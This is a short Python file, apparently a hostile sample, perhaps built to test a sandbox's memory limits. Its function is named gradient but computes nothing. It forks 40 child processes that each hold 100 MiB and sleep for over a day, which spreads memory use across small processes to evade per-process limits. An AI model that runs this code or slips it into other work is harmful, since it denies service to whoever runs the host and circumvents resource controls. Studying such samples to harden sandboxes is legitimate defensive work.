"""Takes memory in processes that each take little."""

import os
import time


def gradient(f, x):
    for _ in range(40):
        if os.fork() == 0:
            held = bytearray(b"x") * (100 << 20)
            time.sleep(98765)
    time.sleep(98765)
